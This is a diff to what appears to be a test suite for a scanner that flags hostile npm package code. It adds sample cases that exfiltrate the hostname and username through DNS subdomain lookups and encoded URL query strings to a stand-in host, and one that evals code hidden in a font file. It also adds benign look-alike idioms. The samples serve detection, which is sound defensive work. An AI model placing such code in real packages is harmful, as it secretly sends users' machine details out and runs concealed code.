@@ -80,6 +80,29 @@ HANDING = (
         const asar = require("@electron/asar"), os = require("os"), path = require("path");
         asar.createPackage("./a", path.join(os.homedir(), "AppData/Local/Programs/wallet/resources/app.asar"));
     """, SETUP),
+    Case("parts of a text that are looked up one by one", "EXFIL-001", HIGH, r"""
+        const dns = require("dns"), os = require("os");
+        const hex = (text) => Buffer.from(text).toString("hex");
+        const parts = hex([os.hostname(), os.userInfo().username].join("|")).match(/.{1,60}/g);
+        parts.forEach((part, at) => dns.lookup(`${at}.${part}.example.invalid`, () => {}));
+    """, SETUP),
+    Case("parameters that an address is given later", "EXFIL-001", HIGH, r"""
+        const https = require("https"), os = require("os");
+        const address = new URL("https://example.invalid/");
+        address.searchParams.set("v", "1");
+        address.searchParams.append("d", Buffer.from(JSON.stringify({ h: os.hostname(), u: os.userInfo() })).toString("base64url"));
+        https.get(address);
+    """, SETUP),
+    Case("the query of an address set as a whole", "EXFIL-001", HIGH, r"""
+        const os = require("os"), address = new URL("https://example.invalid/a");
+        address.search = new URLSearchParams({ h: os.hostname(), u: os.userInfo().username });
+        fetch(address);
+    """, SETUP),
+    Case("code in a font of the package", "ENC-001", HIGH, r"""
+        const fs = require("fs"), path = require("path");
+        const read = (name) => (0, eval)(fs.readFileSync(path.join(__dirname, "assets", name)).slice(4).toString("utf8"));
+        exports.font = read("icons.woff2");
+    """, files={"assets/icons.woff2": "wOF2console.log(1)"}),
 )  # fmt: skip
 
 GOOD_HANDING = (
@@ -112,5 +135,19 @@ GOOD_HANDING = (
     Idiom("a program packs itself", r"""
         const asar = require("@electron/asar"), path = require("path");
         exports.pack = (folder) => asar.createPackage(folder, path.join(__dirname, "dist", "app.asar"));
+    """),
+    Idiom("a font of the package is served", r"""
+        const fs = require("fs"), path = require("path");
+        exports.font = (response) => response.end(fs.readFileSync(path.join(__dirname, "assets", "icons.woff2")).slice(4));
+    """, files={"assets/icons.woff2": "wOF2console.log(1)"}),
+    Idiom("a version is asked for with parameters", r"""
+        const address = new URL("https://example.invalid/versions");
+        address.searchParams.set("version", require("./package.json").version);
+        address.hash = "top";
+        exports.check = () => fetch(address);
+    """),
+    Idiom("addresses of the machine are shown", r"""
+        const os = require("os");
+        Object.values(os.networkInterfaces()).flat().filter((one) => !one.internal).forEach((one) => console.log(`http://${one.address}:80`));
     """),
 )  # fmt: skip
